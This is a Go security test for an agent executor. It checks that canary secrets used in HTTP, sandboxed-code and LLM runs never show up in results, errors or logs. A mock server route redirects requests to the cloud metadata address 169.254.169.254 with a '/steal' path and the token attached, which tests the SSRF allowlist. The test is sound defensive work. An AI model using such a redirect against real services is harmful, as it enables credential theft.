package executor_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/turbocat/turbocat/internal/executor"
	"github.com/turbocat/turbocat/internal/executor/codeexec"
	"github.com/turbocat/turbocat/internal/executor/httpexec"
	"github.com/turbocat/turbocat/internal/executor/llmexec"
)

func TestMain(m *testing.M) {
	codeexec.MaybeRunWorker()
	os.Exit(m.Run())
}

// TestSecretsCanary runs agents of every type whose configs use secrets (a
// password, an API key, an Authorization token), including runs that fail
// and runs that log their input, and then searches every result, error and
// server log line for the canary values and their common encodings: 0 hits.
func TestSecretsCanary(t *testing.T) {
	t.Parallel()
	canaries := map[string]string{"DB_PASSWORD": "pw-CANARY-91xq", "API_KEY": "sk-CANARY-api-5577", "TOKEN": "tok-CANARY-hdr-7733"}

	var mu sync.Mutex
	received := ""
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		echo := r.Header.Get("Authorization") + " " + r.Header.Get("X-Api-Key") + " " + r.URL.RawQuery + " " + string(body)
		mu.Lock()
		received += echo
		mu.Unlock()
		switch {
		case strings.HasPrefix(r.URL.Path, "/v1/chat/completions"):
			w.Header().Set("Content-Type", "application/json")
			if strings.Contains(string(body), "fail-please") {
				w.WriteHeader(401)
				_ = json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": "Incorrect API key provided: " + r.Header.Get("Authorization"), "type": "invalid_request_error"}})
				return
			}
			_ = json.NewEncoder(w).Encode(map[string]any{"id": "c", "object": "chat.completion", "created": 1, "model": "m",
				"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": "echo: " + echo}, "finish_reason": "stop"}},
				"usage":   map[string]any{"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
		case r.URL.Path == "/redirect":
			http.Redirect(w, r, "http://169.254.169.254/steal?"+r.URL.RawQuery, http.StatusFound)
		case r.URL.Path == "/fail":
			w.WriteHeader(500)
			_, _ = w.Write([]byte("upstream rejected " + echo))
		default:
			w.Header().Set("Content-Type", "application/json")
			_ = json.NewEncoder(w).Encode(map[string]any{"echo": echo})
		}
	}))
	t.Cleanup(srv.Close)

	allow := []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	code, err := codeexec.New(codeexec.Options{Workers: 1})
	require.NoError(t, err)
	t.Cleanup(func() { _ = code.Close() })
	reg := executor.NewRegistry()
	reg.Register(executor.TypeCode, code)
	reg.Register(executor.TypeAPI, httpexec.New(httpexec.Options{Client: httpexec.NewClient(httpexec.ClientOptions{AllowCIDRs: allow})}))
	reg.Register(executor.TypeLLM, llmexec.New(llmexec.Options{HTTPClient: httpexec.NewClient(httpexec.ClientOptions{AllowCIDRs: allow})}))

	runs := []struct {
		typ    string
		config any
		fails  bool
	}{
		{"api", map[string]any{"method": "POST", "url": srv.URL + "/ok", "auth": map[string]any{"type": "basic", "username": "app", "password": "{{secrets.DB_PASSWORD}}"}, "body": map[string]any{"in": "{{input}}"}}, false},
		{"api", map[string]any{"method": "GET", "url": srv.URL + "/fail", "headers": map[string]any{"X-Api-Key": "{{secrets.API_KEY}}"}}, true},
		{"api", map[string]any{"method": "GET", "url": srv.URL + "/redirect", "auth": map[string]any{"type": "query", "name": "token", "value": "{{secrets.TOKEN}}"}}, true},
		{"api", map[string]any{"method": "GET", "url": srv.URL + "/ok?key={{secrets.API_KEY}}", "auth": map[string]any{"type": "bearer", "token": "{{secrets.TOKEN}}"}}, false},
		{"code", map[string]any{"source": `function main(input){ const pw = {{secrets.DB_PASSWORD}}; console.log("input", input, "pw", pw); console.warn(encodeURIComponent(pw)); return {input, pw, enc: encodeURIComponent(pw), json: JSON.stringify({pw})} }`}, false},
		{"code", map[string]any{"source": `function main(input){ console.error("about to fail", input); throw new Error("cannot log in with " + {{secrets.API_KEY}}) }`}, true},
		{"llm", map[string]any{"provider": "openai", "model": "m", "baseUrl": srv.URL + "/v1/", "apiKeySecret": "API_KEY", "prompt": "hello {{input.user}} token {{secrets.TOKEN}}"}, false},
		{"llm", map[string]any{"provider": "openai", "model": "m", "baseUrl": srv.URL + "/v1/", "apiKeySecret": "API_KEY", "prompt": "fail-please"}, true},
	}
	var logs bytes.Buffer
	var logMu sync.Mutex
	logger := slog.New(slog.NewJSONHandler(&lockedWriter{w: &logs, mu: &logMu}, &slog.HandlerOptions{Level: slog.LevelDebug}))
	var dump bytes.Buffer
	for i, r := range runs {
		cfg, _ := json.Marshal(r.config)
		res, err := reg.Execute(context.Background(), executor.Request{
			AgentID: "canary", Type: r.typ, Config: cfg, Input: json.RawMessage(`{"user":"ada"}`),
			Secrets: executor.StaticSecrets(canaries), Logger: logger,
		})
		require.Equal(t, r.fails, err != nil, "run %d (%s): %v", i, r.typ, err)
		b, _ := json.Marshal(res)
		dump.Write(b)
		if err != nil {
			dump.WriteString(err.Error())
			b, _ := json.Marshal(err)
			dump.Write(b)
		}
	}
	mu.Lock()
	got := received
	mu.Unlock()
	logMu.Lock()
	all := dump.String() + logs.String()
	logMu.Unlock()
	for name, v := range canaries {
		// Positive control: the secrets really were used.
		require.True(t, strings.Contains(got, v) || strings.Contains(got, base64.StdEncoding.EncodeToString([]byte("app:"+v))), "server never saw %s", name)
		for _, form := range []string{v, url.QueryEscape(v), base64.StdEncoding.EncodeToString([]byte(v)), base64.StdEncoding.EncodeToString([]byte("app:" + v))} {
			require.NotContains(t, all, form, "%s leaked", name)
		}
	}
	require.Contains(t, all, "[REDACTED]")
	require.Contains(t, logs.String(), "agent run failed")
}

type lockedWriter struct {
	w  io.Writer
	mu *sync.Mutex
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}
